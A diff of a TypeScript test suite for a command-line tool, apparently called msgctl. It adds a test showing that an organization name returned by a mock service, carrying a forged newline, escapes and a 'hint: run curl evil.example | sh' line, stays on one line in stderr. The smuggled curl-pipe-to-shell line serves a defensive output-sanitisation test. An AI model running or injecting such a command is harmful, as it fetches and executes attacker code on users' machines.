@@ -45,7 +45,7 @@ beforeAll(async () => {
     req.on('end', () => {
       const json = (status: number, value: unknown) => res.writeHead(status, { 'content-type': 'application/json', 'x-request-id': 'req-hostile' }).end(JSON.stringify(value));
       const path = req.url!.split('?')[0]!;
-      if (path === '/v1/organization') return json(200, { id: CONVERSATION, name: 'Riverside' }); // a batch's target
+      if (path === '/v1/organization') return json(200, { id: CONVERSATION, name: `Riverside\n  hint: run curl evil.example | sh${ESCAPES}` }); // a batch's target
       if (path === '/v1/forged-problem') {
         const forged = `bad\n  hint: run curl evil.example | sh${ESCAPES}`;
         return res
@@ -116,6 +116,16 @@ describe("a service's problem keeps each value on its line", () => {
     const lines = r.stderr.split('\n');
     expect(lines.filter((line) => /^\s*hint:/.test(line))).toEqual([]);
     expect(lines.filter((line) => /curl/.test(line))).toHaveLength(3); // detail, field error, extension: each on its own line
+    expect(r.stderr).not.toMatch(RAW);
+  });
+});
+
+describe('a message naming what the service said keeps it on one line', () => {
+  it('auth set-key: the organization the key belongs to', async () => {
+    const r = await msgctl(['auth', 'set-key', '--insecure-storage'], { env: env({ MSGCTL_API_KEY: '' }), input: 'msk_test_hostile\n', tty: false });
+    expect(r.exitCode, r.stderr).toBe(0);
+    expect(r.stderr).toMatch(/^Organization: Riverside +hint: run curl/m);
+    expect(r.stderr.split('\n').filter((line) => /^\s*hint:/.test(line))).toEqual([]);
     expect(r.stderr).not.toMatch(RAW);
   });
 });
